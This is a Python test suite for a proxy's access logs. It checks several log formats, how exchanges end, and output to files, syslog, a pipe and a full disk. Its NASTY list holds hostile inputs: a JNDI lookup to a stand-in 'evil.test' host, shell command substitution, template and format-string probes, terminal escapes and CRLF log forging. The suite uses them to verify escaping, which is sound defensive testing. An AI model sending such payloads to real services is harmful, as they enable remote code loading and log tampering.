# SPDX-License-Identifier: BSD-2-Clause
"""What the access log says of an exchange, in every form, and that nothing a peer sends can forge
or spoil a line (server/log, modes/road_log.c)."""

import json
import os
import re
import shutil
import socket
import tempfile

from bascule_flow import (WAIT, Client, Daemon, Origin, answer, ask, canned, check, equal, get,
                          head, main, once, post, test)
from peers import DeadPort, LogReader, becomes, until

CUSTOM = ("%{method} %{status} %{upstream_status} %{end} dns=%{dns_us} connect=%{connect_us} "
          "first=%{first_byte_us} total=%{duration_us} in=%{bytes_in}/%{total_bytes_in} "
          "out=%{bytes_out}/%{total_bytes_out} %{upstream} %{site}/%{route}/%{group} "
          "%{reused}%{upstream_reused} [%{req.X-Id}] [%{resp.X-Out}] 100%%")

CONF = """
workers = 1;
access_logs = (
    { name = "first"; to = "@DIR@/json.log"; format = "json"; },
    { name = "common"; to = "@DIR@/common.log"; format = "common"; },
    { name = "combined"; to = "@DIR@/combined.log"; format = "combined"; },
    { name = "squid"; to = "@DIR@/squid.log"; format = "squid"; },
    { name = "custom"; to = "@DIR@/custom.log"; format = "@CUSTOM@"; },
    { name = "fields"; to = "@DIR@/fields.log"; format = "%{req.X-Id} %{resp.X-Out}|"; },
    { name = "stdout"; to = "stdout"; format = "json"; },
    { name = "syslog"; to = "syslog:udp:127.0.0.1:@SYSLOG@"; format = "combined"; },
    { name = "full"; to = "/dev/full"; },
    { name = "fifo"; to = "@FIFO@"; }
);
listeners = (
    { name = "web"; mode = "reverse"; listen = "127.0.0.1:0"; limits = { body = "1000"; }; },
    { name = "hasty"; mode = "reverse"; listen = "127.0.0.1:0";
      timeouts = { head = "300ms"; body = "1s"; body_bytes = "500"; }; },
    { name = "common"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "common"; },
    { name = "combined"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "combined"; },
    { name = "squid"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "squid"; },
    { name = "custom"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "custom"; },
    { name = "fields"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "fields"; },
    { name = "stdout"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "stdout"; },
    { name = "syslog"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "syslog"; },
    { name = "full"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "full"; },
    { name = "fifo"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "fifo"; },
    { name = "bare"; mode = "reverse"; listen = "127.0.0.1:0"; sites = "other"; },
    { name = "off"; mode = "reverse"; listen = "127.0.0.1:0"; access_log = "off"; },
    { name = "proxy"; mode = "forward"; listen = "127.0.0.1:0";
      allow_destination = "127.0.0.0/8"; },
    { name = "squid-proxy"; mode = "forward"; listen = "127.0.0.1:0"; access_log = "squid";
      allow_destination = "127.0.0.0/8"; connect_ports = "1-65535"; }
);
groups = (
    { name = "plain"; max_fails = 0; endpoints = [ "127.0.0.1:@ORIGIN@" ]; },
    { name = "hasty"; max_fails = 0; timeouts = { head = "300ms"; };
      endpoints = [ "127.0.0.1:@ORIGIN@" ]; },
    { name = "new"; max_fails = 0; endpoints = [ "127.0.0.1:@ORIGIN@" ]; },
    { name = "dead"; max_fails = 0; endpoints = [ "127.0.0.1:@DEAD@" ]; },
    { name = "nowhere"; max_fails = 0; endpoints = [ "nowhere.invalid:80" ]; },
    { name = "narrow"; endpoints = ( { to = "127.0.0.1:@ORIGIN@"; max_connections = 1; } ); }
);
sites = (
    { name = "all"; default = true; group = "plain"; routes = (
        { name = "the api"; path_prefix = "/api"; },
        { name = "new"; path_prefix = "/new"; group = "new"; },
        { path = "/welcome"; welcome = true; },
        { path = "/moved"; redirect = { to = "/welcome"; }; },
        { path = "/silent"; group = "hasty"; },
        { path = "/dead"; group = "dead"; },
        { path = "/nowhere"; group = "nowhere"; },
        { path_prefix = "/narrow"; group = "narrow"; }
    ); },
    { name = "other"; hosts = "other.test"; group = "plain"; }
);
"""


@once
def origin():
    return Origin(lambda request, link: answer(b"hello\n", "Content-Type: text/plain; charset=x",
                                               "X-Out: from the origin"))


@once
def dead():
    return DeadPort()


@once
def syslog():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(WAIT)
    return sock


class Fifo:
    """A pipe with a name that is read when the test wants it."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="bascule-fifo-")
        self.path = os.path.join(self.dir, "log")
        os.mkfifo(self.path)
        self.fd = os.open(self.path, os.O_RDONLY | os.O_NONBLOCK)

    def drain(self):
        found = b""
        try:
            while data := os.read(self.fd, 65536):
                found += data
        except BlockingIOError:
            pass
        return found

    def close(self):
        os.close(self.fd)
        shutil.rmtree(self.dir)


@once
def fifo():
    return Fifo()


@once
def proxy():
    return Daemon(CONF, CUSTOM=CUSTOM, ORIGIN=origin().port, DEAD=dead().port, FIFO=fifo().path,
                  SYSLOG=syslog().getsockname()[1])


def client(listener):
    return Client(proxy().address(listener))


def reader(log):
    """Reads the lines of a log that come from now on."""
    found = LogReader(proxy().path(f"{log}.log"))
    found.at = os.path.getsize(found.path)
    return found


def line_of(log, request):
    """The line of one request, the response and the bytes of it."""
    lines = reader(log)
    with client(log) as c:
        response = c.ask(request)
        received = len(c.received)
    return lines.next().rstrip("\n"), response, received


def record_of(request, method="GET", listener="web"):
    lines = reader("json")
    with client(listener) as c:
        c.send(request)
        response = c.read(method)
    return json.loads(lines.next()), response


# ---- forms


TIME = r"\[\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d [+-]\d{4}\]"


def matches(pattern, line):
    found = re.fullmatch(pattern, line)
    check(found, f"the line is {line!r}")
    return found


@test("common: who, when, what, status, bytes")
def _():
    line, _, _ = line_of("common", get("/a/b?c=d"))
    matches(rf'127\.0\.0\.1 - - {TIME} "GET /a/b\?c=d HTTP/1\.1" 200 6', line)
    line, _, _ = line_of("common", head("GET /old HTTP/1.0"))
    matches(rf'127\.0\.0\.1 - - {TIME} "GET /old HTTP/1\.0" 200 6', line)
    line, _, _ = line_of("common", get("/moved"))
    matches(rf'127\.0\.0\.1 - - {TIME} "GET /moved HTTP/1\.1" 302 -', line)


@test("combined: with Referer and User-Agent")
def _():
    fields = ("Referer: http://a.test/?q", "User-Agent: curl/1 (x)")
    line, _, _ = line_of("combined", get("/", *fields))
    matches(rf'127\.0\.0\.1 - - {TIME} "GET / HTTP/1\.1" 200 6 "http://a\.test/\?q" '
            r'"curl/1 \(x\)"', line)
    line, _, _ = line_of("combined", get("/"))
    matches(rf'127\.0\.0\.1 - - {TIME} "GET / HTTP/1\.1" 200 6 "-" "-"', line)


@test("squid: as its tools read it, with whole URLs and all bytes of the answer")
def _():
    line, _, received = line_of("squid", get("/x?y", host="site.test:81"))
    found = matches(r"\d{10}\.\d{3} +\d+ 127\.0\.0\.1 TCP_MISS/200 (\d+) GET "
                    r"http://site\.test:81/x\?y - HIER_DIRECT/127\.0\.0\.1 text/plain", line)
    equal(int(found[1]), received, "bytes")
    line, _, _ = line_of("squid", get("/dead"))
    matches(r"\d{10}\.\d{3} +\d+ 127\.0\.0\.1 TCP_MISS/502 \d+ GET http://site\.test/dead - "
            r"HIER_DIRECT/127\.0\.0\.1 application/problem\+json", line)
    lines = reader("squid")
    with client("squid-proxy") as c:
        c.ask(get(f"http://127.0.0.1:{origin().port}/out", host=f"127.0.0.1:{origin().port}"))
        matches(rf"\d{{10}}\.\d{{3}} +\d+ 127\.0\.0\.1 TCP_MISS/200 \d+ "
                rf"GET http://127\.0\.0\.1:{origin().port}/out - HIER_DIRECT/127\.0\.0\.1 "
                r"text/plain", lines.next().rstrip("\n"))
        target = f"127.0.0.1:{origin().port}"
        c.ask(head(f"CONNECT {target} HTTP/1.1", f"Host: {target}"), "CONNECT")
        c.ask(get("/through"))
    matches(rf"\d{{10}}\.\d{{3}} +\d+ 127\.0\.0\.1 TCP_TUNNEL/200 \d+ CONNECT "
            rf"{re.escape(target)} - HIER_DIRECT/127\.0\.0\.1 -", lines.next().rstrip("\n"))


@test("json: every value under its name, and of its type")
def _():
    found, _ = record_of(get("/api/x", "User-Agent: me", host="Site.test:8"))
    for name, value in {"listener": "web", "mode": "reverse", "client_ip": "127.0.0.1",
                        "method": "GET", "scheme": "http", "host": "Site.test:8",
                        "target": "/api/x", "version": "HTTP/1.1", "status": 200, "end": "done",
                        "bytes_out": 6, "bytes_in": 0, "user_agent": "me", "site": "all",
                        "route": "the api", "group": "plain", "upstream_status": 200,
                        "upstream": f"127.0.0.1:{origin().port}", "reused": False}.items():
        equal(found.get(name), value, name)
    for name in ("client_port", "duration_us", "first_byte_us", "total_bytes_out",
                 "total_bytes_in"):
        check(type(found.get(name)) is int and found[name] > 0, f"{name}: {found.get(name)}")
    check(re.fullmatch(r"[0-9a-f]{16}", found["id"]), f"id: {found['id']}")
    check(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", found["time_iso"]), "time_iso")
    for name in ("referer", "rule", "user", "dns_us"):
        check(name not in found, f"{name} is not known, and there: {found.get(name)}")


@test("a text of one's own: phases, ends, bytes, names and fields")
def _():
    lines = reader("custom")
    first = get("/new", "X-Id: one two", "X-Id: second")
    second = post("/new/y", b"content", "X-Id:")
    with client("custom") as c:
        c.ask(first)
        received = len(c.received)
        c.ask(second)
    number = r"(\d+)"
    found = matches(rf"GET 200 200 done dns=- connect={number} first={number} total={number} "
                    rf"in=0/{len(first)} out=6/{received} 127\.0\.0\.1:{origin().port} "
                    r"all/new/new 00 \[one\\x20two\] \[from\\x20the\\x20origin\] 100%",
                    lines.next().rstrip("\n"))
    connect, first_byte, total = (int(found[i]) for i in (1, 2, 3))
    check(connect <= first_byte <= total, f"phases: {connect}, {first_byte}, {total}")
    matches(rf"POST 200 200 done dns=- connect=- first={number} total={number} "
            rf"in=7/{len(second)} out=6/{received} 127\.0\.0\.1:{origin().port} "
            r"all/new/new 11 \[-?\] \[from\\x20the\\x20origin\] 100%", lines.next().rstrip("\n"))


@test("all bytes of an exchange count, framing and interim answers too")
def _():
    origin().on("/framed", lambda request, link: link.send(
        head("HTTP/1.1 103 Early Hints", "Link: </x>") +
        head("HTTP/1.1 200 OK", "Transfer-Encoding: chunked") +
        b"3\r\nabc\r\n4\r\ndefg\r\n0\r\n\r\n"))
    request = head("POST /framed HTTP/1.1", "Host: site.test", "Transfer-Encoding: chunked") + \
        b"5;x=y\r\nhello\r\n6\r\n world\r\n0\r\nX-T: 1\r\n\r\n"
    lines = reader("json")
    with client("web") as c:
        c.ask(get("/before"))
        before = len(c.received)
        c.ask(request)
        received = len(c.received) - before
    lines.next()
    found = json.loads(lines.next())
    equal((found["bytes_in"], found["total_bytes_in"]), (11, len(request)), "bytes in")
    equal((found["bytes_out"], found["total_bytes_out"]), (7, received), "bytes out")
    check(found["reused"] is True, "reused")


@test("what forward mode reached is logged")
def _():
    found, _ = record_of(get(f"http://127.0.0.1:{origin().port}/", host="x"), listener="proxy")
    equal((found["mode"], found["upstream"], found["host"]),
          ("forward", f"127.0.0.1:{origin().port}", f"127.0.0.1:{origin().port}"), "the record")


# ---- how exchanges end


@test("a line says how the exchange ended")
def _():
    origin().on("/reset", lambda request, link: link.reset())
    origin().on("/garbage", canned(b"SSH-2.0-OpenSSH\r\n"))
    origin().on("/silent", lambda request, link: None)
    for request, status, end in (
            (get("/"), 200, "done"), (get("/welcome"), 200, "answered"),
            (get("/moved"), 302, "answered"), (get("/%zz"), 400, "bad_request"),
            (b"GET / HTTP/1.1\r\n\r\n", 400, "bad_request"), (get("/dead"), 502, "connect_failed"),
            (get("/nowhere"), 502, "dns_failed"), (get("/reset"), 502, "upstream_failed"),
            (get("/garbage"), 502, "upstream_bad"), (get("/silent"), 504, "upstream_timeout"),
            (head("CONNECT site.test:443 HTTP/1.1", "Host: site.test:443"), 405, "denied"),
            (post("/", b"x" * 1001), 413, "limit")):
        found, response = record_of(request)
        equal((response.status, found["status"], found["end"]), (status, status, end),
              str(request[:50]))


@test("whatever a line calls denied is counted as denied, once")
def _():
    before = proxy().metrics()["bascule_requests_denied_total"]
    for request, listener, end in (
            (head("CONNECT site.test:443 HTTP/1.1", "Host: site.test:443"), "web", "denied"),
            (get("http://127.0.0.1:25/"), "proxy", "denied"),
            (head("CONNECT 127.0.0.1:22 HTTP/1.1", "Host: 127.0.0.1:22"), "proxy", "denied"),
            (get("/"), "bare", "denied"), (get("/"), "web", "done"),
            (get("/%zz"), "web", "bad_request")):
        equal(record_of(request, listener=listener)[0]["end"], end, str(request[:50]))
    becomes(lambda: proxy().metrics()["bascule_requests_denied_total"] - before, 4, "denied")


@test("a line says that the client was too slow", timely=True)
def _():
    for request in (head("POST / HTTP/1.1", "Host: site.test", "Content-Length: 900") + b"slow",
                    b"GET / HTTP/1.1\r\nHost: sl"):
        found, response = record_of(request, listener="hasty")
        equal((response.status, found["status"], found["end"]), (408, 408, "client_timeout"),
              str(request[:50]))


@test("an answer that was cut, by either side, is logged with its status and its end")
def _():
    origin().on("/cut", canned(head("HTTP/1.1 200 OK", "Content-Length: 100") + b"x" * 10, "close"))
    lines = reader("json")
    with client("web") as c:
        c.send(get("/cut"))
        c.rest()
    found = json.loads(lines.next())
    equal((found["status"], found["upstream_status"], found["end"], found["bytes_out"]),
          (200, 200, "upstream_failed", 10), "cut by the origin")
    origin().on("/long", canned(head("HTTP/1.1 200 OK", "Content-Length: 100") + b"x" * 10))
    with client("web") as c:
        c.send(get("/long"))
        until(lambda: c.received.endswith(b"x") or not c.fill(), "its beginning")
        c.reset()
    found = json.loads(lines.next())
    equal((found["status"], found["end"]), (200, "client_abort"), "cut by the client")


@test("an exchange that found no endpoint free says so, with the group and without an endpoint")
def _():
    origin().on("/narrow/held", lambda request, link: None)
    lines = reader("json")
    with client("web") as c:
        c.send(get("/narrow/held"))
        origin().wait_request("/narrow/held")
        found, response = record_of(get("/narrow/other"))
        c.reset()
    equal((response.status, found["end"], found["group"], found.get("upstream")),
          (503, "no_endpoint", "narrow", None), "the record")
    equal(lines.record(target="/narrow/held")["end"], "client_abort", "the one that had it")


@test("the reference that a page shows finds its line")
def _():
    found, response = record_of(get("/dead"))
    equal(json.loads(response.body)["instance"], f"#exchange-{found['id']}", "the problem")
    found, response = record_of(get("/dead", "Accept: text/html"))
    check(f"<dd>{found['id']}</dd>" in response.body.decode(), "the page")


# ---- hostile bytes


NASTY = (
    get('/"quoted"\\back%0a%0d%00<x>', 'Referer: "a" \\ b', 'User-Agent: x" 200 1 "-" "forged'),
    get("/tab", "Referer: a\tb", "User-Agent: \\x22 \\\\ \\"),
    get("/high", "Referer: \xe4\xf6\xfc", "User-Agent: \xff\xfe\x80\xc0\xaf"),
    get("/utf8", "Referer: \xc3\xa4 \xe2\x82\xac \xf0\x9f\x98\x80",
        "User-Agent: \xc2\x85 \xc2\x9b0m"),
    get("/broken-utf8", "Referer: \xc3", "User-Agent: \xed\xa0\x80 \xf4\x90\x80\x80 \xe2\x82"),
    get("/'$(x)`{{7*7}}${jndi:ldap://x}", "User-Agent: ${jndi:ldap://evil.test/a} %s%n%{status}"),
    get("/long/" + "a" * 12000, "Referer: " + "\xff" * 4000, "User-Agent: " + "\"" * 9000),
    get("/x", "User-Agent: " + "\xf0\x9f\x98\x80" * 2500),
    get("/?" + "%22%5c" * 2000),
    b"GET /\x1b[31m HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /\xff\xfe HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: site.test\r\nUser-Agent: \x1b]0;x\x07\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: si\"te.test\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 50 + b"\r\n\r\n",
    b"G\"E\\T / HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: site.test\r\nX: a\nGET /forged HTTP/1.1\r\n\r\n",
    b"GET /%0d%0a127.0.0.1%20-%20- HTTP/1.1\r\nHost: site.test\r\n\r\n",
)


def lines_of_nasty(log, listener):
    """The lines, as bytes, that the nasty requests left: one for each."""
    path = proxy().path(f"{log}.log")
    start = os.path.getsize(path)
    for request in NASTY:
        check(ask(proxy().address(listener), request).status in (200, 400), f"{request[:40]}")

    def written():
        with open(path, "rb") as file:
            file.seek(start)
            data = file.read()
        return data if data.count(b"\n") >= len(NASTY) else None

    data = until(written, "all lines are written")
    check(data.endswith(b"\n"), "the last line has no end")
    lines = data[:-1].split(b"\n")
    equal(len(lines), len(NASTY), "lines")
    return lines


@test("in texts hostile bytes are escaped: one line for each request, and its quotes are ours")
def _():
    for log, quotes in (("common", 2), ("combined", 6), ("squid", 0)):
        for line in lines_of_nasty(log, log):
            check(re.fullmatch(rb"[ -~]+", line), f"{log}: {line[:300]}")
            equal(line.count(b'"'), quotes, f"quotes in {log}: {line[:300]}")
            if log == "squid":
                equal(len(line.split()), 10, f"columns in {line[:300]}")
            else:
                check(re.search(rb'" \d{3} (\d+|-)' + (b"$" if log == "common" else b' "'), line),
                      f"{log}: {line[-300:]}")


@test("json is always valid, one object a line, and well-formed UTF-8 stays readable")
def _():
    lines = lines_of_nasty("json", "web")
    records = [json.loads(line.decode("utf-8", "strict")) for line in lines]
    for line in lines:
        check(not re.search(rb"[\0-\x1f\x7f]", line), f"control characters in {line[:300]}")
    equal(records[0]["target"], '/"quoted"\\back%0a%0d%00<x>', "target")
    equal(records[0]["user_agent"], 'x" 200 1 "-" "forged', "User-Agent")
    equal(records[2]["referer"], "\xe4\xf6\xfc", "Referer of single bytes")
    equal(records[3]["referer"], "\xe4 \u20ac \U0001f600", "Referer in UTF-8")
    check(records[6]["target"].endswith("a...") and records[6]["end"] == "done", "a long target")


@test("bytes of peers in fields that a text names are escaped too")
def _():
    origin().on("/fields", canned(answer(b"", 'X-Out: "a\\b" \xff c')))
    lines = reader("fields")
    with client("fields") as c:
        c.ask(get("/fields", 'X-Id: a b|\x80"'))
    equal(lines.next(), r'a\x20b|\x80\x22 \x22a\x5Cb\x22\x20\xFF\x20c|' + "\n", "the line")


# ---- where lines go


@test("lines go to standard output")
def _():
    equal(ask(proxy().address("stdout"), get("/to-stdout?\"")).status, 200, "status")
    found = json.loads(proxy().wait_log(r'^\{.*/to-stdout.*\}$')[0])
    equal(found["target"], '/to-stdout?"', "target")


@test("lines go to syslog")
def _():
    equal(ask(proxy().address("syslog"), get("/to-syslog")).status, 200, "status")
    line = syslog().recv(65536)
    check(re.match(rb"<\d{1,3}>", line) and b'"GET /to-syslog HTTP/1.1" 200 6' in line, f"{line}")


@test("with access_log off nothing is written anywhere")
def _():
    names = ("json", "common", "combined", "squid", "custom", "fields")
    with client("web") as c:
        c.ask(get("/last"))  # what was written before is there by then
    until(lambda: b'"/last"' in open(proxy().path("json.log"), "rb").read(), "the last line")
    sizes = [os.path.getsize(proxy().path(f"{name}.log")) for name in names]
    lines = proxy().metrics()["bascule_log_lines_total"]
    equal(ask(proxy().address("off"), get("/unlogged")).status, 200, "status")
    equal(ask(proxy().address("stdout"), get("/after-unlogged")).status, 200, "status")
    proxy().wait_log("/after-unlogged")
    equal([os.path.getsize(proxy().path(f"{name}.log")) for name in names], sizes, "sizes")
    written = until(lambda: proxy().metrics()["bascule_log_lines_total"] - lines, "it is counted")
    equal(written, 1, "lines")


def flood(listener, least, count=150):
    """More lines than anything holds: at least so many are dropped then. How many were."""
    before = proxy().metrics()["bascule_log_lines_dropped_total"]
    with client(listener) as c:
        for i in range(count):
            equal(c.ask(get(f"/{i}", "User-Agent: " + "x" * 8000)).status, 200, "status")
    line, _, _ = line_of("common", get("/others-go-on"))
    check("/others-go-on" in line, "another log")

    def dropped():
        return proxy().metrics()["bascule_log_lines_dropped_total"] - before

    until(lambda: dropped() >= least, "dropped lines are counted")
    return dropped()


@test("a full disk drops lines, counts them and stalls nobody")
def _():
    dropped = flood("full", 100)
    check(dropped <= 150, f"{dropped} lines were dropped")
    proxy().wait_log(r"error .*/dev/full: .*No space left on device")


@test("a reader that does not read drops lines too, and gets later ones when it reads again")
def _():
    dropped = flood("fifo", 1)
    check(dropped < 150, f"{dropped} lines were dropped")
    fifo().drain()
    # When the log thread sees that there is room nobody is told, so some may still be lost.
    until(lambda: ask(proxy().address("fifo"), get("/later")) and b"/later" in fifo().drain(),
          "later lines")


main()
